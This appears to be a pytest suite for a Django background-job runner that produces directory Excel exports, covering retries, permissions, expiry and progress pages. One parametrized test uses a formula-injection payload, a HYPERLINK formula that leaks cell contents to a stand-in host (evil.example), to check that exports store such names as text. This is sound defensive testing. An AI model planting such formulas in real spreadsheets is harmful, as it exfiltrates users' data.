"""The job runner's promises (naphs/jobs.py), the job pages, expiry, and formula-safe Excel exports.

These run the job in-process; tests/naphs/test_worker.py runs it in a real Celery worker.
"""

from __future__ import annotations

import io
from datetime import timedelta
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.db import transaction
from django.utils import timezone
from openpyxl import load_workbook

from naphs import job_kinds
from naphs.job_kinds import JobKind
from naphs.jobs import JobFailed, JobResult, file_slug, job_run, jobs_expire
from naphs.models import Job
from naphs.services import job_create
from naphs.xlsx import add_table_sheet, new_workbook, workbook_bytes
from stakeholders.job_kinds import StakeholdersJob
from stakeholders.models import Organization

pytestmark = pytest.mark.django_db


def files_under(folder: Path) -> list[Path]:
    return sorted(path for path in Path(folder).rglob("*") if path.is_file())


def export_job(plan, user, **fields) -> Job:
    """A directory-export job row, as job_create records it but without enqueueing anything."""
    return Job.objects.create(kind=StakeholdersJob.DIRECTORY_EXPORT, plan=plan, requested_by=user, **fields)


def refusing_handler(*, job: Job, progress) -> JobResult:
    progress(30, "Looking")
    raise JobFailed("The plan has no members to export.")


def crashing_handler(*, job: Job, progress) -> JobResult:
    raise RuntimeError("disk on fire")


@pytest.fixture
def handler(monkeypatch):
    """Point the directory-export kind at another handler (a function of this module, by name)."""

    def use(name: str) -> None:
        kind = StakeholdersJob.DIRECTORY_EXPORT
        monkeypatch.setitem(job_kinds.KINDS, kind, JobKind(kind, kind.label, globals()[name]))

    return use


def test_each_app_registers_its_own_job_kinds_and_the_core_lists_none():
    """A new kind is an app's change alone: the core's Job.kind names no app's kinds, the apps register theirs."""
    from costing.job_kinds import CostingJob
    from planning.job_kinds import PlanningJob

    assert not Job._meta.get_field("kind").choices
    for kinds in (CostingJob, PlanningJob, StakeholdersJob):
        for kind in kinds:
            assert job_kinds.job_kind_get(kind).label == kind.label
    assert Job(kind=StakeholdersJob.DIRECTORY_EXPORT).get_kind_display() == "Directory export (Excel)"


def test_a_kind_no_app_registers_is_refused(plan, lead):
    with pytest.raises(LookupError):
        job_create(kind="no_such_kind", by=lead, plan=plan)
    assert not Job.objects.filter(kind="no_such_kind").exists()
    with pytest.raises(ValidationError) as refused:
        Job(kind="no_such_kind", plan=plan, requested_by=lead).full_clean()
    assert "kind" in refused.value.message_dict


def test_a_job_asked_for_on_the_page_runs_when_the_request_commits(
    client, plan, people, lead, django_capture_on_commit_callbacks
):
    client.force_login(lead)
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = client.post(f"/plans/{plan.pk}/directory/export/")
    assert len(callbacks) == 1  # enqueued once, after the commit
    job = Job.objects.get(plan=plan, requested_by=lead)
    assert response.status_code == 302
    assert response["Location"] == f"/jobs/{job.pk}/"
    assert job.status == Job.Status.SUCCEEDED, job.error
    assert (job.progress, job.message, job.attempts) == (100, "Done", 1)
    assert job.result_name.endswith("-directory.xlsx")
    workbook = load_workbook(job.result.path)
    assert workbook.sheetnames == ["Members", "Organizations"]
    emails = {row[1] for row in workbook["Members"].iter_rows(min_row=2, values_only=True)}
    assert emails == {user.email for name, user in people.items() if name != "outsider"}


def test_a_job_is_not_enqueued_when_its_transaction_rolls_back(plan, lead, django_capture_on_commit_callbacks):
    with (
        django_capture_on_commit_callbacks(execute=True) as callbacks,
        pytest.raises(LookupError),
        transaction.atomic(),
    ):
        job_create(kind=StakeholdersJob.DIRECTORY_EXPORT, by=lead, plan=plan)
        raise LookupError("the request fails after asking for the job")
    assert callbacks == []
    assert not Job.objects.exists()


def test_a_redelivered_message_for_a_finished_job_does_nothing(plan, people, lead):
    job = export_job(plan, lead)
    job_run(job_id=job.pk)
    job.refresh_from_db()
    assert job.status == Job.Status.SUCCEEDED
    first = (job.result.name, job.finished_at, job.started_at)
    assert len(files_under(django_settings.MEDIA_ROOT)) == 1

    job_run(job_id=job.pk)  # the broker delivers the same message again

    job.refresh_from_db()
    assert job.status == Job.Status.SUCCEEDED
    assert job.attempts == 1
    assert (job.result.name, job.finished_at, job.started_at) == first
    assert files_under(django_settings.MEDIA_ROOT) == [Path(job.result.path)]


def test_a_failed_job_is_not_run_again_either(plan, lead, handler):
    handler("refusing_handler")
    job = export_job(plan, lead)
    job_run(job_id=job.pk)
    handler("crashing_handler")  # would raise if it ran
    job_run(job_id=job.pk)
    job.refresh_from_db()
    assert (job.status, job.attempts) == (Job.Status.FAILED, 1)


def test_a_job_whose_worker_died_runs_again_from_the_start_and_keeps_one_file(plan, people, lead):
    job = export_job(
        plan,
        lead,
        status=Job.Status.RUNNING,
        attempts=1,
        progress=40,
        message="Reading organizations",
        started_at=timezone.now() - timedelta(minutes=5),
    )
    # The dead attempt had got as far as saving a file.
    job.result.save("leftover-directory.xlsx", ContentFile(b"half a workbook"), save=True)
    leftover = Path(job.result.path)
    assert leftover.exists()

    job_run(job_id=job.pk)

    job.refresh_from_db()
    assert job.status == Job.Status.SUCCEEDED
    assert (job.attempts, job.progress, job.message, job.error) == (2, 100, "Done", "")
    assert job.started_at > timezone.now() - timedelta(minutes=1)
    assert not leftover.exists()
    assert files_under(django_settings.MEDIA_ROOT) == [Path(job.result.path)]
    load_workbook(job.result.path)  # a whole workbook this time


def test_a_job_deleted_before_it_ran_is_ignored(plan, lead):
    job = export_job(plan, lead)
    job_id = job.pk
    job.delete()
    job_run(job_id=job_id)
    assert not Job.objects.filter(pk=job_id).exists()
    assert files_under(django_settings.MEDIA_ROOT) == []


def test_a_handler_that_raises_job_failed_fails_the_job_with_its_message(plan, lead, handler):
    handler("refusing_handler")
    job = export_job(plan, lead)
    job_run(job_id=job.pk)
    job.refresh_from_db()
    assert job.status == Job.Status.FAILED
    assert job.message == "The plan has no members to export."
    assert job.error == "The plan has no members to export."
    assert job.finished_at is not None
    assert not job.result
    assert files_under(django_settings.MEDIA_ROOT) == []


def test_an_unexpected_error_fails_the_job_without_showing_the_error_to_the_person(
    plan, lead, handler, django_capture_on_commit_callbacks
):
    handler("crashing_handler")
    with pytest.raises(RuntimeError), django_capture_on_commit_callbacks(execute=True):
        job_create(kind=StakeholdersJob.DIRECTORY_EXPORT, by=lead, plan=plan)
    job = Job.objects.get(plan=plan)
    assert job.status == Job.Status.FAILED
    assert "disk on fire" not in job.message
    assert "disk on fire" in job.error


def test_the_requester_downloads_the_file_and_nobody_else_can(client, plan, people, lead):
    job = export_job(plan, lead)
    job_run(job_id=job.pk)
    job.refresh_from_db()

    client.force_login(lead)
    response = client.get(f"/jobs/{job.pk}/download/")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert job.result_name in response["Content-Disposition"]
    content = b"".join(response.streaming_content)
    assert content == Path(job.result.path).read_bytes()
    assert load_workbook(io.BytesIO(content)).sheetnames == ["Members", "Organizations"]

    for other in ("secretariat_member", "viewer", "outsider"):
        client.force_login(people[other])
        assert client.get(f"/jobs/{job.pk}/download/").status_code == 404, other
        assert client.get(f"/jobs/{job.pk}/").status_code == 404, other

    client.logout()
    response = client.get(f"/jobs/{job.pk}/download/")
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


def test_a_requester_who_left_the_plan_no_longer_sees_its_job(client, plan, people):
    viewer = people["viewer"]
    job = export_job(plan, viewer)
    job_run(job_id=job.pk)
    plan.memberships.filter(user=viewer).delete()
    client.force_login(viewer)
    assert client.get(f"/jobs/{job.pk}/download/").status_code == 404


def test_a_job_without_a_file_or_whose_file_is_gone_404s(client, plan, people, lead):
    client.force_login(lead)
    queued = export_job(plan, lead)
    assert client.get(f"/jobs/{queued.pk}/download/").status_code == 404

    done = export_job(plan, lead)
    job_run(job_id=done.pk)
    done.refresh_from_db()
    Path(done.result.path).unlink()
    assert client.get(f"/jobs/{done.pk}/download/").status_code == 404


def test_the_job_page_shows_progress_and_htmx_gets_only_the_fragment(client, plan, lead):
    job = export_job(
        plan, lead, status=Job.Status.RUNNING, progress=40, message="Reading organizations", started_at=timezone.now()
    )
    client.force_login(lead)

    page = client.get(f"/jobs/{job.pk}/")
    assert page.status_code == 200
    html = page.content.decode()
    assert "<html" in html
    assert f'id="job-{job.pk}"' in html
    assert "Reading organizations (40%)" in html
    assert "no-cache" in page["Cache-Control"] or "max-age=0" in page["Cache-Control"]

    fragment = client.get(f"/jobs/{job.pk}/", HTTP_HX_REQUEST="true")
    assert fragment.status_code == 200
    html = fragment.content.decode()
    assert "<html" not in html
    assert "<body" not in html
    assert f'id="job-{job.pk}"' in html
    assert f'hx-get="/jobs/{job.pk}/"' in html  # it polls itself while the job runs
    assert '<progress value="40"' in html
    assert "Reading organizations (40%)" in html


def test_the_fragment_of_a_finished_job_stops_polling_and_offers_the_file(client, plan, people, lead, handler):
    done = export_job(plan, lead)
    job_run(job_id=done.pk)
    handler("refusing_handler")
    failed = export_job(plan, lead)
    job_run(job_id=failed.pk)
    client.force_login(lead)

    html = client.get(f"/jobs/{done.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert "hx-get" not in html
    assert f'href="/jobs/{done.pk}/download/"' in html
    assert 'data-status="succeeded"' in html

    html = client.get(f"/jobs/{failed.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert "hx-get" not in html
    assert "download" not in html
    assert "The plan has no members to export." in html


def test_jobs_expire_fails_stale_jobs_and_deletes_old_finished_ones_with_their_files(plan, people, lead, settings):
    now = timezone.now()
    running_limit = timedelta(seconds=settings.CELERY_TASK_TIME_LIMIT + 600)
    retention = timedelta(days=settings.JOB_RETENTION_DAYS)

    stale_running = export_job(plan, lead, status=Job.Status.RUNNING, started_at=now - running_limit - timedelta(1))
    fresh_running = export_job(plan, lead, status=Job.Status.RUNNING, started_at=now - timedelta(minutes=5))
    stale_queued = export_job(plan, lead)
    fresh_queued = export_job(plan, lead)
    Job.objects.filter(pk=stale_queued.pk).update(created_at=now - timedelta(days=2))

    old_done = export_job(plan, lead)
    job_run(job_id=old_done.pk)
    old_done.refresh_from_db()
    old_file = Path(old_done.result.path)
    Job.objects.filter(pk=old_done.pk).update(finished_at=now - retention - timedelta(hours=1))
    recent_done = export_job(plan, lead)
    job_run(job_id=recent_done.pk)
    recent_done.refresh_from_db()
    old_failed = export_job(plan, lead, status=Job.Status.FAILED, finished_at=now - retention - timedelta(days=3))
    assert old_file.exists()

    assert jobs_expire(now=now) == 2

    stale_running.refresh_from_db()
    assert stale_running.status == Job.Status.FAILED
    assert "worker stopped" in stale_running.message
    assert stale_running.finished_at == now
    stale_queued.refresh_from_db()
    assert stale_queued.status == Job.Status.FAILED
    assert "No worker" in stale_queued.message
    fresh_running.refresh_from_db()
    fresh_queued.refresh_from_db()
    assert fresh_running.status == Job.Status.RUNNING
    assert fresh_queued.status == Job.Status.QUEUED

    assert not Job.objects.filter(pk__in=[old_done.pk, old_failed.pk]).exists()
    assert not old_file.exists()
    recent_done.refresh_from_db()
    assert Path(recent_done.result.path).exists()
    assert files_under(settings.MEDIA_ROOT) == [Path(recent_done.result.path)]

    assert jobs_expire(now=now) == 0  # nothing more to do


def test_a_stale_job_failed_by_expiry_is_not_revived_by_a_late_message(plan, lead, settings):
    started = timezone.now() - timedelta(seconds=settings.CELERY_TASK_TIME_LIMIT + 3600)
    job = export_job(plan, lead, status=Job.Status.RUNNING, attempts=1, started_at=started)
    jobs_expire()
    job_run(job_id=job.pk)
    job.refresh_from_db()
    assert (job.status, job.attempts) == (Job.Status.FAILED, 1)


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A2)",
    ],
)
def test_an_organization_named_like_a_formula_is_exported_as_text(plan, people, lead, name):
    Organization.objects.create(name=name, kind="ngo", jurisdiction=plan.jurisdiction)
    job = export_job(plan, lead)
    job_run(job_id=job.pk)
    job.refresh_from_db()
    assert job.status == Job.Status.SUCCEEDED, job.error

    sheet = load_workbook(job.result.path)["Organizations"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2) if row[0].value == name]
    assert len(cells) == 1, [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert cells[0].data_type == "s"
    # And not hidden in the raw XML as a formula either.
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_write_row_keeps_numbers_and_plain_text_as_they_are():
    workbook = new_workbook()
    add_table_sheet(workbook, title="T", headers=["a", "b", "c"], rows=[["=1+1", 42, "plain"]])
    sheet = load_workbook(io.BytesIO(workbook_bytes(workbook)))["T"]
    assert [(cell.value, cell.data_type) for cell in sheet[2]] == [("=1+1", "s"), (42, "n"), ("plain", "s")]


@pytest.mark.parametrize(
    ("text", "limit", "slug"),
    [
        (
            "Demoland National Action Plan for Health Security 2026–2030",
            60,
            "demoland-national-action-plan-for-health-security-2026-2030",
        ),
        (
            "Demoland National Action Plan for Health Security 2026–2030",
            50,
            "demoland-national-action-plan-for-health-security",
        ),
        ("  Plan / 2027: (draft)  ", 60, "plan-2027-draft"),
        ("–––", 60, "plan"),
    ],
)
def test_file_names_are_made_of_words_and_single_dashes_never_ending_in_one(text, limit, slug):
    assert file_slug(text, limit=limit) == slug
